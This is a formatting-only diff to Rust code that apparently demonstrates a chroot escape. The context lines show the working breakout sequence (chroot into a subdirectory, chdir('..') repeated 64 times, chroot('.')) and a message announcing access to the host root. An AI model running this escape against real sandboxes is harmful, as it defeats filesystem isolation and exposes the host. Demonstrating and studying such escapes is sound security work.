@@ -66,7 +66,10 @@ fn drop_capabilities() {
     }
     // SAFETY: plain prctl.
     if unsafe { libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) } < 0 {
-        fail("prctl(PR_SET_NO_NEW_PRIVS)", std::io::Error::last_os_error());
+        fail(
+            "prctl(PR_SET_NO_NEW_PRIVS)",
+            std::io::Error::last_os_error(),
+        );
     }
 }
 
@@ -191,13 +194,19 @@ pub fn escape(pid: &str) -> ! {
             std::process::exit(1);
         }
     };
-    step("chroot(\"tmp\")    # cwd stays outside the new root", nix::unistd::chroot("tmp"));
+    step(
+        "chroot(\"tmp\")    # cwd stays outside the new root",
+        nix::unistd::chroot("tmp"),
+    );
     for _ in 0..64 {
         let _ = nix::unistd::chdir("..");
     }
     println!("chdir(\"..\") × 64");
     step("chroot(\".\")", nix::unistd::chroot("."));
-    println!("$ ls /            # after the escape\n{}", first_entries("/"));
+    println!(
+        "$ ls /            # after the escape\n{}",
+        first_entries("/")
+    );
     if identity("/").is_some() && identity("/") == host_root {
         println!("ESCAPED: / is now the host's root directory.");
         println!("탈출 성공: 이제 / 는 호스트의 루트 디렉터리입니다.");
